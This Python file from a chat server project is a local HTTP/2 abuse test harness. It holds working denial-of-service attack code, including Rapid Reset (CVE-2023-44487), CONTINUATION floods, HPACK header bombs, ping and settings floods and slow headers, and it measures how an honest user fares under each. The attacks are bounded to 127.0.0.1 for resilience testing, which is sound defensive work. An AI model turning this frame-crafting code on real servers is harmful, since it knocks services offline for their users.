"""A bounded attacker, and what an honest user notices of it: `script/foreign --abuse [--only NAME]`. Here the attacks on HTTP/2;
fair_share.py has what a member may do.

Everything against a server of its own on 127.0.0.1, a few seconds each, ending by itself; or against nginx in front of it.
Attackers are processes of their own, so that they do not slow the honest user down by sharing its interpreter; they do share the
machine's cores with all processes, which every figure includes."""

import argparse
import json
import os
import statistics
import subprocess
import sys
import threading
import time
from pathlib import Path

import grpc

import http2
from http2 import Connection, field, frame, pump, request

HERE = Path(__file__).resolve().parent
LOGIN_PATH, SEND_PATH = "/Auth/Login", "/Messaging/SendMessage"
# The longest time of an honest call; after it the call counts as failed.
PATIENCE_S = 60
PASSWORD = "верный конь 7"
# How an attacker with an account gets its token.
TOKEN_VARIABLE = "ABUSE_TOKEN"


# --- The attacks. Each takes the address, the time and the number of connections, and returns what it did. ---

def _report(connections, **did):
    cut = [c for c in connections if c.closed]
    goaways = sorted({c.goaway for c in connections if c.goaway is not None})
    return {"connections": len(connections), "cut": len(cut), "goaways": goaways, **did,
            "sent_mib": round(sum(c.sent for c in connections) / 2**20, 1),
            "frames_back": sum(sum(c.received.values()) for c in connections)}


def _flood(address, seconds, connections, make, count=None, **how):
    """Connections that send what `make(connection)` gives, as fast as they can. A closed one is opened again."""
    until = time.monotonic() + seconds
    all_of_them = []
    while time.monotonic() < until and len(all_of_them) < 50 * connections:
        batch = [Connection(address, **how).introduce() for _ in range(connections)]
        all_of_them += batch
        pump(batch, until, make)
        for one in batch:
            if not one.closed:
                one.socket.close()
    return _report(all_of_them, **({count: sum(getattr(c, "did", 0) for c in all_of_them)} if count else {}))


def _counted(connection, n):
    connection.did = getattr(connection, "did", 0) + n


def rapid_reset(address, seconds, connections):
    """CVE-2023-44487: calls that are cancelled at once."""
    block = request(LOGIN_PATH)

    def make(connection):
        _counted(connection, 200)
        pairs = []
        for _ in range(200):
            n = connection.stream()
            pairs.append(frame(http2.HEADERS, http2.END_HEADERS, n, block))
            pairs.append(frame(http2.RST_STREAM, 0, n, b"\0\0\0\x08"))
        return b"".join(pairs)
    return _flood(address, seconds, min(connections, 4), make, "resets")


def rapid_reset_logins(address, seconds, connections):
    """The same with whole requests, each of which asks for a password to be hashed."""
    block = request(LOGIN_PATH)
    message = http2.body(b"\x0a\x06nobody\x12\x0ewrong password")

    def make(connection):
        _counted(connection, 100)
        calls = []
        for _ in range(100):
            n = connection.stream()
            calls.append(frame(http2.HEADERS, http2.END_HEADERS, n, block))
            calls.append(frame(http2.DATA, http2.END_STREAM, n, message))
            calls.append(frame(http2.RST_STREAM, 0, n, b"\0\0\0\x08"))
        return b"".join(calls)
    return _flood(address, seconds, min(connections, 4), make, "logins")


def _continuations(address, seconds, connections, acknowledges):
    start = request(SEND_PATH)
    more = b"".join(field(f"x-{n}", "y" * 1000) for n in range(15))

    def make(connection):
        if connection.next_stream == 1:
            return frame(http2.HEADERS, 0, connection.stream(), start)
        _counted(connection, 8)
        return frame(http2.CONTINUATION, 0, 1, more) * 8
    return _flood(address, seconds, min(connections, 4), make, "continuations", acknowledges=acknowledges)


def continuation_flood(address, seconds, connections):
    """CVE-2024-27316 and the like: headers that never end."""
    return _continuations(address, seconds, connections, True)


def continuation_flood_unacknowledged(address, seconds, connections):
    """The same by a client that never acknowledges the server's settings."""
    return _continuations(address, seconds, connections, False)


def _header_blocks(address, seconds, connections, parts, **how):
    """Calls with the headers `parts`, cut into frames, each left open."""
    block = request(SEND_PATH) + parts
    pieces = [block[at:at + 16_384] for at in range(0, len(block), 16_384)]

    def make(connection):
        if connection.next_stream > 400:
            return b""
        _counted(connection, 1)
        n = connection.stream()
        last = len(pieces) - 1
        return b"".join(frame(http2.HEADERS if at == 0 else http2.CONTINUATION, http2.END_HEADERS if at == last else 0, n, piece)
                        for at, piece in enumerate(pieces))
    return _flood(address, seconds, min(connections, 4), make, "calls", **how)


def header_bomb_huge(address, seconds, connections):
    """One header of a mebibyte."""
    return _header_blocks(address, seconds, connections, field("x-bomb", b"z" * 2**20))


def header_bomb_many(address, seconds, connections):
    """Twenty thousand small ones."""
    return _header_blocks(address, seconds, connections, b"".join(field(f"x{n}", "v") for n in range(20_000)))


def header_bomb_indexed(address, seconds, connections):
    """A large header that the server indexes, then named by one byte, sixteen thousand times."""
    return _header_blocks(address, seconds, connections, field("x-bomb", b"z" * 3_900, True) + b"\xbe" * 16_000)


def header_table_churn(address, seconds, connections):
    """Every header is indexed, and evicts another one."""
    return _header_blocks(address, seconds, connections, b"".join(field(f"x{n}", "v" * 30, True) for n in range(200)))


def header_bomb_unacknowledged(address, seconds, connections):
    """Headers of a mebibyte on one call after the other, by a client that never acknowledges the server's settings."""
    return _header_blocks(address, seconds, connections, field("x-bomb", b"z" * 2**20), acknowledges=False)


def ping_flood(address, seconds, connections):
    block = frame(http2.PING, 0, 0, b"8 bytes.") * 500

    def make(connection):
        _counted(connection, 500)
        return block
    return _flood(address, seconds, min(connections, 4), make, "pings")


def ping_flood_by_a_listener(address, seconds, connections):
    """The same on a connection that also has a stream, to which others' messages are written meanwhile."""
    block = frame(http2.PING, 0, 0, b"8 bytes.") * 500
    listen = request("/Messaging/MessageStream", ("token", os.environ[TOKEN_VARIABLE]))

    def make(connection):
        if connection.next_stream == 1:
            n = connection.stream()
            return frame(http2.HEADERS, http2.END_HEADERS, n, listen) + frame(http2.DATA, http2.END_STREAM, n, http2.body(b""))
        _counted(connection, 500)
        return block
    return _flood(address, seconds, min(connections, 4), make, "pings")


def settings_flood(address, seconds, connections):
    return _settings(address, seconds, connections, True)


def settings_flood_unread(address, seconds, connections):
    """The same, and the answers are never read."""
    return _settings(address, seconds, connections, False)


def _settings(address, seconds, connections, reads):
    block = frame(http2.SETTINGS, 0, 0, b"\0\x01\0\0\x10\0" + b"\0\x04\0\0\xff\xff") * 500

    def make(connection):
        _counted(connection, 500)
        return block
    return _flood(address, seconds, min(connections, 4), make, "settings", reads=reads)


def empty_data(address, seconds, connections):
    """CVE-2019-9518: a call with endless empty frames as its body."""
    block = frame(http2.DATA, 0, 1) * 1_000

    def make(connection):
        if connection.next_stream == 1:
            return frame(http2.HEADERS, http2.END_HEADERS, connection.stream(), request(SEND_PATH))
        _counted(connection, 1_000)
        return block
    return _flood(address, seconds, min(connections, 4), make, "frames")


def _crowd(address, seconds, connections, hello, **how):
    """Connections that say `hello` and then nothing more."""
    until = time.monotonic() + seconds
    crowd = []
    for n in range(connections):
        one = Connection(address, **how)
        one.queue(hello)
        crowd.append(one)
        # Not faster than the system's queue of new connections allows.
        if n % 64 == 63:
            pump(crowd[-64:], min(until, time.monotonic() + 0.02))
    pump(crowd, until)
    times = sorted(c.closed_at - c.opened_at for c in crowd if c.closed)
    report = _report(crowd, cut_after_s=round(statistics.median(times), 1) if times else None)
    for one in crowd:
        one.close()
    return report


def half_open(address, seconds, connections):
    """Connections that send nothing."""
    return _crowd(address, seconds, connections, b"", acknowledges=False)


def preface_only(address, seconds, connections):
    """Connections that begin and then send nothing more."""
    return _crowd(address, seconds, connections, http2.PREFACE, acknowledges=False)


def idle_connections(address, seconds, connections):
    """Complete connections without a call."""
    return _crowd(address, seconds, connections, http2.PREFACE + frame(http2.SETTINGS, 0, 0))


def slow_headers(address, seconds, connections):
    """A byte of a call's headers from time to time."""
    until = time.monotonic() + seconds
    whole = frame(http2.HEADERS, 0, 1, request(SEND_PATH)) + frame(http2.CONTINUATION, 0, 1, field("x-slow", "s" * 8_000))
    crowd = [Connection(address).introduce() for _ in range(min(connections, 200))]
    at = 0
    while time.monotonic() < until:
        for one in crowd:
            one.queue(whole[at:at + 1])
        at = min(at + 1, len(whole) - 1)
        pump(crowd, min(until, time.monotonic() + 0.1))
    report = _report(crowd, bytes_each=at)
    for one in crowd:
        one.close()
    return report


def _unfinished(address, seconds, connections, per_connection, acknowledges, stop_at_cut=True):
    block = request(SEND_PATH)

    def make(connection):
        # The limit of the server holds only once its settings have arrived.
        if acknowledges and http2.SETTINGS not in connection.received:
            return b""
        n = min(100, per_connection - getattr(connection, "did", 0))
        _counted(connection, n)
        return b"".join(frame(http2.HEADERS, http2.END_HEADERS, connection.stream(), block) for _ in range(n))
    until = time.monotonic() + seconds
    crowd = [Connection(address, acknowledges=acknowledges).introduce() for _ in range(min(connections, 4))]
    pump(crowd, until, make, keep=4_096)
    report = _report(crowd, streams=sum(getattr(c, "did", 0) for c in crowd))
    for one in crowd:
        one.close()
    return report


def unfinished_streams(address, seconds, connections):
    """As many calls as a connection may have, each without its message."""
    return _unfinished(address, seconds, connections, 1_000, True)


def unfinished_streams_beyond(address, seconds, connections):
    """More than a connection may have."""
    return _unfinished(address, seconds, connections, 5_000, True)


def unfinished_streams_unacknowledged(address, seconds, connections):
    """More than that, by a client that never acknowledges the server's settings."""
    return _unfinished(address, seconds, connections, 5_000, False)


ATTACKS = {function.__name__: function for function in (
    rapid_reset, rapid_reset_logins, continuation_flood, continuation_flood_unacknowledged, header_bomb_huge,
    header_bomb_many, header_bomb_indexed, header_table_churn, header_bomb_unacknowledged, ping_flood,
    ping_flood_by_a_listener, settings_flood,
    settings_flood_unread, empty_data, half_open, preface_only, idle_connections, slow_headers, unfinished_streams,
    unfinished_streams_beyond, unfinished_streams_unacknowledged)}


# --- The honest user, and the server's own figures. ---

class Figures:
    """What programs hold: memory, processor time, descriptors, threads; summed over `pids`."""

    def __init__(self, pids):
        self.mib = self.fds = self.threads = self.cpu_s = 0
        for pid in pids:
            stat = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
            self.cpu_s += (int(stat[11]) + int(stat[12])) / os.sysconf("SC_CLK_TCK")
            self.threads += int(stat[17])
            self.mib += int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20
            self.fds += len(os.listdir(f"/proc/{pid}/fd"))


class Honest:
    """A user who was logged in before the attack began, sends messages and receives them."""

    def __init__(self, peer, token, listener, pause):
        self.peer, self.token, self.listener, self.pause = peer, token, listener, pause

    def speak(self, until):
        """Sends messages one after the other; how long each took to be answered, and to be delivered, in seconds."""
        answered, heard = [], []
        while not answered or not until():
            started = time.perf_counter()
            sent = self.peer.send("слышно?", self.token, patience=PATIENCE_S)
            answered.append(time.perf_counter() - started)
            while str(self.listener.next(PATIENCE_S).id) != sent.id:
                pass
            heard.append(time.perf_counter() - started)
            threading.Event().wait(self.pause)
        return answered, heard


def log_in(peer, login, password, phone):
    """A login as a person does it, with another try when told so; how long it took, and how many attempts."""
    started = time.perf_counter()
    attempts = 0
    while True:
        attempts += 1
        try:
            code = phone.fresh_code() if attempts == 1 else phone.last_code()
            answer = peer.log_in(login, password, code, patience=PATIENCE_S)
            if answer.success:
                return time.perf_counter() - started, attempts
            why = answer.reason
        except grpc.RpcError as error:
            why = error.code().name
        took = time.perf_counter() - started
        if why not in ("OVERLOADED", "THROTTLED", "UNAVAILABLE") or took > PATIENCE_S:
            raise AssertionError(f"a login during the attack: {why} after {took:.1f} s")
        threading.Event().wait(0.25)


def milliseconds(times):
    ordered = sorted(times)
    p99 = ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]
    return tuple(round(1000 * t, 1) for t in (statistics.median(ordered), p99, ordered[-1]))


def attack(name, address, seconds, connections, honest, newcomer, pids):
    """One attack with all that is seen of it, as a row of figures."""
    before = Figures(pids)
    command = [sys.executable, __file__, "--attack", name, "--target", f"{address[0]}:{address[1]}",
               "--seconds", str(seconds), "--connections", str(connections)]
    started = time.monotonic()
    # An attacker may have an account.
    environment = {**os.environ, TOKEN_VARIABLE: honest.token}
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, cwd=HERE, env=environment) as attacker:
        newcomers = []
        failed = []

        def arrive():
            threading.Event().wait(seconds / 3)
            try:
                newcomers.append(newcomer())
            except Exception as error:  # noqa: BLE001: told by the row
                failed.append(error)
        door = threading.Thread(target=arrive)
        door.start()
        peak = [before.mib, before.fds]

        def over():
            now = Figures(pids)
            peak[:] = [max(peak[0], now.mib), max(peak[1], now.fds)]
            return attacker.poll() is not None
        answered, heard = honest.speak(over)
        door.join(PATIENCE_S * 2)
        report = json.loads(attacker.stdout.read())
        assert attacker.wait(PATIENCE_S) == 0, name
    lasted = time.monotonic() - started
    if failed:
        raise failed[0]
    after = settled(pids, before)
    row = {"attack": name, "n": len(answered), "answered_ms": milliseconds(answered), "heard_ms": milliseconds(heard),
           "login_ms": round(1000 * newcomers[0][0]), "login_attempts": newcomers[0][1],
           "cpu_percent": round(100 * (after.cpu_s - before.cpu_s) / lasted),
           "mib": (round(before.mib), round(peak[0]), round(after.mib)), "fds": (before.fds, peak[1], after.fds), **report}
    return row


def settled(pids, before, seconds=10):
    """The figures once the attackers' connections are closed, or after a limit."""
    until = time.monotonic() + seconds
    while True:
        now = Figures(pids)
        if now.fds <= before.fds + 4 or time.monotonic() > until:
            return now
        threading.Event().wait(0.1)


def table(rows, out=print):
    out(f"{'':34} {'answered, ms':>20} {'heard, ms':>20} {'login':>7} {'CPU':>5} {'memory, MiB':>15} {'descriptors':>16}"
        f"  attacker")
    out(f"{'':34} {'median':>6} {'p99':>6} {'max':>6} {'median':>6} {'p99':>6} {'max':>6} {'ms':>7} {'%':>5}"
        f" {'before peak after':>17} {'before peak after':>17}")
    for row in rows:
        a, h, m, f = row["answered_ms"], row["heard_ms"], row["mib"], row["fds"]
        did = ", ".join(f"{row[k]} {k}" for k in row if k in (
            "resets", "logins", "continuations", "calls", "pings", "settings", "frames", "streams", "bytes_each"))
        cut = f"{row['cut']} of {row['connections']} cut off" if "cut" in row else ""
        if row.get("goaways"):
            cut += f" (GOAWAY {row['goaways']})"
        if row.get("cut_after_s") is not None:
            cut += f" after {row['cut_after_s']} s"
        attempts = f"×{row['login_attempts']}" if row.get("login_attempts", 1) > 1 else ""
        out(f"{row['attack']:34} {a[0]:6} {a[1]:6} {a[2]:6} {h[0]:6} {h[1]:6} {h[2]:6} {str(row['login_ms']) + attempts:>7}"
            f" {row['cpu_percent']:5} {m[0]:5} {m[1]:5} {m[2]:5} {f[0]:5} {f[1]:5} {f[2]:5}  {did}; {cut}")


class Scene:
    """A server, its honest user, and a newcomer for each attack."""

    def __init__(self, case, more_pids=(), port=None, pause=0.02):
        self.case = case
        self.pids = [case.server.process.pid, *more_pids]
        self.address = ("127.0.0.1", port or case.server.port)
        _, _, peer, token = case.enrolled()
        listener = case.listen(peer.stream(token))
        listener.wait_until_subscribed(lambda: peer.send("слышно?", token))
        self.honest = Honest(peer, token, listener, pause)

    def quiet(self, seconds):
        """The row of figures without any attack."""
        before = Figures(self.pids)
        newcomer = self.newcomer()()
        started = time.monotonic()
        answered, heard = self.honest.speak(lambda: time.monotonic() - started > seconds)
        after = Figures(self.pids)
        cpu = round(100 * (after.cpu_s - before.cpu_s) / seconds)
        return {"attack": "quiet", "n": len(answered), "answered_ms": milliseconds(answered), "heard_ms": milliseconds(heard),
                "login_ms": round(1000 * newcomer[0]), "login_attempts": newcomer[1], "cpu_percent": cpu,
                "mib": (round(before.mib), round(after.mib), round(after.mib)), "fds": (before.fds, after.fds, after.fds)}

    def newcomer(self):
        login, phone, _, _ = self.case.enrolled()
        peer = self.case.peer()
        return lambda: log_in(peer, login, PASSWORD, phone)

    def under(self, name, seconds, connections):
        return attack(name, self.address, seconds, connections, self.honest, self.newcomer(), self.pids)


def parsed(arguments=None):
    """The flags of `script/foreign --abuse`."""
    import fair_rows
    import no_harm
    rows = {**fair_rows.ROWS, **no_harm.ROWS}
    listed = "\n".join(f"  {name:20} {row.__doc__}" for name, row in rows.items())
    parser = argparse.ArgumentParser(
        prog="script/foreign --abuse", formatter_class=argparse.RawDescriptionHelpFormatter,
        description="Bounded attackers, and what the others notice of them, each against a server of its own on this machine. "
        "The server is $OTPCHATD, or the one that was built. Without --only: the attacks on HTTP/2, then the rows of fair share.",
        epilog=f"The rows of fair share; figures beside targets, exit code 1 if one is missed:\n{listed}\n\n"
        f"The attacks on HTTP/2:\n  {', '.join(ATTACKS)}")
    parser.add_argument("--only", action="append", metavar="NAME", choices=[*ATTACKS, *rows, "http2", "fair-share"],
                        help="this attack or row, or all of `http2` or `fair-share`; may be given again")
    parser.add_argument("--keep", metavar="FILE", help="write the figures of fair share there, as JSON")
    parser.add_argument("--pace", type=float, default=1.0, help="how long a row of fair share lasts, as a share of its usual time; "
                        "with less than 1 its figures mean little")
    parser.add_argument("--seconds", type=float, default=10, help="how long each attack on HTTP/2 lasts, at most 120")
    parser.add_argument("--connections", type=int, default=2000, help="for those by their number, at most 15000")
    parser.add_argument("--nginx", action="store_true", help="those through nginx/otpchatd.conf")
    options = parser.parse_args(arguments)
    wanted = options.only or ["http2", "fair-share"]
    options.attacks = [name for name in ATTACKS if name in wanted or "http2" in wanted]
    options.rows = {name: row for name, row in rows.items() if name in wanted or "fair-share" in wanted}
    return options


def one_attack():
    """This program as an attacker."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--attack", choices=ATTACKS, required=True)
    parser.add_argument("--target", required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--connections", type=int, required=True)
    options = parser.parse_args()
    host, port = options.target.rsplit(":", 1)
    assert host == "127.0.0.1", "this machine only"
    # The attacker has an address of its own, as a remote one would have.
    http2.SOURCE = "127.0.0.66"
    seconds, connections = min(options.seconds, 120), min(options.connections, 15_000)
    print(json.dumps(ATTACKS[options.attack]((host, int(port)), seconds, connections)))


def main():
    if "--attack" in sys.argv:
        one_attack()
        return
    options = parsed()
    missed = False
    if options.attacks:
        import test_abuse
        seconds, connections = min(options.seconds, 120), min(options.connections, 15_000)
        missed |= not test_abuse.show(options.attacks, seconds, connections, options.nginx)
    if options.rows:
        import fair_share
        missed |= not fair_share.show(options.rows, min(max(options.pace, 0.02), 2), options.keep)
    sys.exit(missed)


if __name__ == "__main__":
    main()
